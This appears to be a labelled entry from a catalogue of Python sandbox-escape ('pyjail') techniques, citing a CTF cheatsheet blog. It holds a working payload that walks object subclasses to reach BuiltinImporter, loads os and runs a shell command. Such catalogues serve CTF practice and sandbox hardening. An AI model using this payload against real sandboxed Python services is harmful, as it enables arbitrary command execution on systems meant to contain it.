# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md (BuiltinImporter.load_module)
# Family: subclass-walk
# What: BuiltinImporter.load_module('os') from the subclass list
imp = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
imp.load_module("os").system("id")
